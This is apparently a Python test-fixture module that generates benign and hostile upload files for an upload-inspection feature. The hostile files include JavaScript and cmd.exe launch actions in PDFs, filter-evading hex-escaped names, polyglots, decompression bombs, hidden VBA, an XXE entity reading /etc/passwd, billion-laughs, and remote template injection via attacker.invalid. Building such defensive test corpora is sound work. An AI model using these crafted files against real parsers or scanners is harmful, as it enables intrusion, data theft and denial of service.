"""Upload corpora made here, nothing downloaded: dangerous files (each must be refused) and benign ones
(real PDFs from WeasyPrint and pikepdf, JPEG/PNG from Pillow, a real DOCX; each must be accepted)."""
import io
import struct
import zipfile
import zlib

import pikepdf
from PIL import Image

# The EICAR test file, put together at run time so that this source file itself is not flagged.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-" + b"TEST-FILE!$H+H*"


# ---------------------------------------------------------------- benign

def weasy_pdf(text="Đơn đề nghị cấp giấy phép xây dựng"):
    import weasyprint
    return weasyprint.HTML(string=f"<h1>{text}</h1><p>Kính gửi: Sở Xây dựng</p>").write_pdf()


def _pike(build=None, **save):
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    if build:
        build(pdf)
    out = io.BytesIO()
    pdf.save(out, **save)
    return out.getvalue()


def plain_pdf():
    return _pike()


def pdf_opening_on_page_one():
    """An OpenAction that is only a destination (go to page 1, fit): what office suites write; harmless."""
    def build(pdf):
        pdf.Root.OpenAction = pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit])
    return _pike(build)


def png(size=(64, 48)):
    buf = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(buf, "PNG")
    return buf.getvalue()


def jpeg(size=(640, 480)):
    buf = io.BytesIO()
    Image.new("RGB", size, (10, 120, 200)).save(buf, "JPEG", quality=80)
    return buf.getvalue()


CONTENT_TYPES = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                 '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                 '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                 '<Default Extension="xml" ContentType="application/xml"/>'
                 '<Override PartName="/word/document.xml" ContentType="{main}"/>{extra}</Types>')
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
ROOT_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
             '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
             '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
             'officeDocument" Target="word/document.xml"/></Relationships>')
DOCUMENT = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body>'
            '<w:p><w:r><w:t>{text}</w:t></w:r></w:p>'
            '<w:p><w:hyperlink r:id="rId9"><w:r><w:t>dichvucong.gov.vn</w:t></w:r></w:hyperlink></w:p>'
            '</w:body></w:document>')
DOC_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'hyperlink" Target="https://dichvucong.gov.vn/" TargetMode="External"/>{extra}</Relationships>')


def docx(main=DOCX_MAIN, extra_types="", document=None, doc_rels_extra="", parts=None):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", CONTENT_TYPES.format(main=main, extra=extra_types))
        zf.writestr("_rels/.rels", ROOT_RELS)
        zf.writestr("word/document.xml", document or DOCUMENT.format(text="Bản thuyết minh thiết kế"))
        zf.writestr("word/_rels/document.xml.rels", DOC_RELS.format(extra=doc_rels_extra))
        for name, data in (parts or {}).items():
            zf.writestr(name, data)
    return buf.getvalue()


def benign():
    """name -> (filename, bytes, detected type)."""
    return {
        "weasyprint-pdf": ("đơn đề nghị.pdf", weasy_pdf(), "application/pdf"),
        "pikepdf-pdf-object-streams": ("ban-ve.pdf", _pike(object_stream_mode=pikepdf.ObjectStreamMode.generate),
                                       "application/pdf"),
        "pdf-open-at-page-1": ("to-trinh.pdf", pdf_opening_on_page_one(), "application/pdf"),
        "pillow-png": ("ảnh chụp.png", png(), "image/png"),
        "pillow-jpeg": ("cmnd.jpg", jpeg(), "image/jpeg"),
        "docx-with-hyperlink": ("thuyết minh.docx", docx(), DOCX_MAIN.replace(".main+xml", "")),
    }


# ---------------------------------------------------------------- dangerous PDFs

def _js(pdf):
    return pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name.JavaScript,
                                                JS=pikepdf.String("app.alert('x')")))


def pdf_openaction_js():
    def build(pdf):
        pdf.Root.OpenAction = _js(pdf)
    return _pike(build)


def pdf_names_javascript():
    def build(pdf):
        pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(
            Names=pikepdf.Array([pikepdf.String("a"), _js(pdf)])))
    return _pike(build)


def pdf_js_in_object_stream():
    """The JavaScript action sits inside a compressed object stream: invisible to a byte search."""
    def build(pdf):
        pdf.Root.OpenAction = _js(pdf)
    return _pike(build, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)


def pdf_launch_link():
    def build(pdf):
        annot = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
                                   Rect=pikepdf.Array([0, 0, 200, 200]),
                                   A=pikepdf.Dictionary(S=pikepdf.Name.Launch,
                                                        F=pikepdf.String("cmd.exe"),
                                                        Win=pikepdf.Dictionary(F=pikepdf.String("cmd.exe"))))
        pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(annot)]))
    return _pike(build)


def pdf_page_additional_actions():
    def build(pdf):
        pdf.pages[0].obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(
            S=pikepdf.Name.URI, URI=pikepdf.String("https://attacker.invalid/")))
    return _pike(build)


def pdf_embedded_file():
    def build(pdf):
        pdf.attachments["hoa-don.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 payload",
                                                                   mime_type="application/octet-stream")
    return _pike(build)


def pdf_rich_media():
    def build(pdf):
        annot = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia,
                                   Rect=pikepdf.Array([0, 0, 100, 100]),
                                   RichMediaContent=pikepdf.Dictionary(Assets=pikepdf.Dictionary()))
        pdf.pages[0].Annots = pikepdf.Array([pdf.make_indirect(annot)])
    return _pike(build)


def pdf_xfa_form():
    def build(pdf):
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(),
                                               XFA=pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>"))
    return _pike(build)


def _raw_pdf(objects, root=1):
    """A hand-written PDF with a correct xref table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % i + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for off in offsets:
        out.write(b"%010d 00000 n \n" % off)
    out.write(b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref))
    return out.getvalue()


def pdf_hex_escaped_names():
    """/J#61vaScript and /Open#41ction: the names a plain byte search for "JavaScript" misses."""
    return _raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R /Open#41ction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",
    ])


def pdf_broken_with_hidden_object_stream():
    """qpdf cannot read it (no page tree), a lenient viewer may; the JavaScript action hides in a deflated
    object stream with hex-escaped names: only the raw scan (inflating /ObjStm) sees it."""
    inner = b"5 0 << /S /J#61vaScript /JS (app.launchURL\\('https://x.invalid'\\)) >>"
    body = zlib.compress(inner)
    return (b"%PDF-1.7\n1 0 obj << /Type /Catalog /Open#41ction 5 0 R >> endobj\n"
            + b"9 0 obj << /Type /Obj#53tm /N 1 /First 4 /Filter /Fl#61teDecode /Length " + str(len(body)).encode()
            + b" >>\nstream\n" + body + b"\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")


def zip_bytes(members):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def pdf_zip_polyglot():
    """A valid PDF that is also a valid ZIP (archive appended: ZIP readers look from the end)."""
    return plain_pdf() + zip_bytes({"payload.html": "<script>alert(1)</script>"})


def pdf_zip_polyglot_inside():
    """A ZIP's local file header inside a PDF object (a reader that scans forward finds it)."""
    z = zip_bytes({"run.js": "WScript.Echo(1)"})
    return _raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                     b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
                     b"<< /Length %d >>\nstream\n" % (len(z) - 22) + z[:-22] + b"\nendstream"])


# ---------------------------------------------------------------- dangerous images

def _png_chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_bomb(width=100_000, height=100_000):
    """A tiny PNG whose header announces 10 000 megapixels (decoding it would need tens of GB)."""
    raw = png()
    ihdr = raw[8:33]
    rest = struct.pack(">II", width, height) + ihdr[16:21]
    return raw[:8] + _png_chunk(b"IHDR", rest) + raw[33:]


def jpeg_bomb(width=65_000, height=65_000):
    raw = bytearray(jpeg((16, 16)))
    i = 2
    while i < len(raw):
        marker, length = raw[i + 1], struct.unpack(">H", raw[i + 2:i + 4])[0]
        if marker in (0xC0, 0xC1, 0xC2):
            raw[i + 5:i + 9] = struct.pack(">HH", height, width)
            break
        i += 2 + length
    return bytes(raw)


def jpeg_pdf_polyglot():
    """A JPEG whose comment segment carries a PDF header in the first KiB (Acrobat opens it as a PDF)."""
    raw = jpeg((16, 16))
    comment = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj"
    seg = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    return raw[:2] + seg + raw[2:]


def png_zip_polyglot():
    """A valid PNG with a ZIP after IEND: an image to the browser, an archive to a ZIP reader."""
    return png() + zip_bytes({"index.html": "<script>alert(1)</script>"})


def png_with_eicar():
    """A valid PNG carrying the EICAR string in a text chunk: only the virus scanner can tell."""
    raw = png()
    return raw[:33] + _png_chunk(b"tEXt", b"Comment\x00" + EICAR) + raw[33:]


# ---------------------------------------------------------------- dangerous Office files

VBA = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + b"Attribute VB_Name = \"ThisDocument\"\nSub AutoOpen()"


def docm_renamed():
    """A macro-enabled document (DOCM) saved as .docx."""
    return docx(main=DOCM_MAIN, extra_types='<Override PartName="/word/vbaProject.bin" '
                                            'ContentType="application/vnd.ms-office.vbaProject"/>',
                doc_rels_extra='<Relationship Id="rId7" Type="http://schemas.microsoft.com/office/2006/relationships/'
                               'vbaProject" Target="vbaProject.bin"/>',
                parts={"word/vbaProject.bin": VBA})


def docx_with_hidden_vba():
    """The content type says plain DOCX, but a VBA project rides along."""
    return docx(parts={"word/vbaProject.bin": VBA})


def docx_zip_bomb(size=64 * 1024 * 1024):
    """64 MB of zeros in one part: 64 KB on disk (ratio ~1000:1)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("[Content_Types].xml", CONTENT_TYPES.format(main=DOCX_MAIN, extra=""))
        zf.writestr("word/document.xml", DOCUMENT.format(text="x"))
        with zf.open("word/media/image1.bmp", "w") as fh:
            block = b"\x00" * (1024 * 1024)
            for _i in range(size // len(block)):
                fh.write(block)
    return buf.getvalue()


def docx_xxe():
    doc = ('<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
           + DOCUMENT.format(text="&xxe;").split("?>", 1)[1])
    return docx(document=doc)


def docx_billion_laughs():
    lol = "".join(f'<!ENTITY l{i} "{"&l%d;" % (i - 1) * 10}">' for i in range(1, 10))
    doc = ('<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY l0 "lol">' + lol + ']>'
           + DOCUMENT.format(text="&l9;").split("?>", 1)[1])
    return docx(document=doc)


def docx_external_template():
    """Remote template injection: settings.xml.rels points Word at an attacker's .dotm."""
    return docx(parts={"word/_rels/settings.xml.rels": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate" Target="https://attacker.invalid/t.dotm" TargetMode="External"/></Relationships>')})


def docx_with_eicar():
    return docx(parts={"word/media/note.txt": EICAR})


def dangerous():
    """name -> (filename, bytes, expected refusal code). Each was stored by the code before the upload
    inspection module."""
    return {
        "pdf-openaction-javascript": ("don.pdf", pdf_openaction_js(), "pdf_active_content"),
        "pdf-names-javascript": ("don.pdf", pdf_names_javascript(), "pdf_active_content"),
        "pdf-javascript-in-object-stream": ("don.pdf", pdf_js_in_object_stream(), "pdf_active_content"),
        "pdf-launch-action": ("don.pdf", pdf_launch_link(), "pdf_active_content"),
        "pdf-additional-actions": ("don.pdf", pdf_page_additional_actions(), "pdf_active_content"),
        "pdf-embedded-file": ("don.pdf", pdf_embedded_file(), "pdf_active_content"),
        "pdf-richmedia": ("don.pdf", pdf_rich_media(), "pdf_active_content"),
        "pdf-xfa": ("don.pdf", pdf_xfa_form(), "pdf_active_content"),
        "pdf-hex-escaped-names": ("don.pdf", pdf_hex_escaped_names(), "pdf_active_content"),
        "pdf-unparseable-objstm": ("don.pdf", pdf_broken_with_hidden_object_stream(), "pdf_active_content"),
        "pdf-zip-polyglot-appended": ("don.pdf", pdf_zip_polyglot(), "file_polyglot"),
        "pdf-zip-polyglot-inside": ("don.pdf", pdf_zip_polyglot_inside(), "file_polyglot"),
        "jpeg-pdf-polyglot": ("anh.jpg", jpeg_pdf_polyglot(), "file_polyglot"),
        "png-zip-polyglot": ("anh.png", png_zip_polyglot(), "file_polyglot"),
        "png-decompression-bomb": ("anh.png", png_bomb(), "image_too_many_pixels"),
        "jpeg-decompression-bomb": ("anh.jpg", jpeg_bomb(), "image_too_many_pixels"),
        "docm-renamed-docx": ("thuyet-minh.docx", docm_renamed(), "office_macro"),
        "docx-hidden-vba": ("thuyet-minh.docx", docx_with_hidden_vba(), "office_macro"),
        "docx-zip-bomb": ("thuyet-minh.docx", docx_zip_bomb(), "zip_bomb"),
        "docx-xxe": ("thuyet-minh.docx", docx_xxe(), "xml_entities"),
        "docx-billion-laughs": ("thuyet-minh.docx", docx_billion_laughs(), "xml_entities"),
        "docx-external-template": ("thuyet-minh.docx", docx_external_template(), "office_external_object"),
    }
